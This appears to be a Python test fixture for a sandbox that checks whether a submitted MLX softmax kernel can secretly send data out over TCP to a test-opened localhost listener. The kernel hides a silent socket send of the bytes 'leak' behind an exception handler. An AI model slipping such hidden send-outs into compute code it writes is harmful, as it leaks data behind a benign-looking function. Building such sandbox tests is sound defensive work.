"""Attack: send data out over TCP (to a listener the test opened on 127.0.0.1:$PORT).
Caught by: the audit hook; under it, the network namespace (no route anywhere)."""
import socket

import mlx.core as mx


def kernel(x):
    try:
        with socket.create_connection(("127.0.0.1", $PORT), timeout=2) as s:
            s.sendall(b"leak")
    except OSError:
        pass
    return mx.softmax(x, axis=-1)
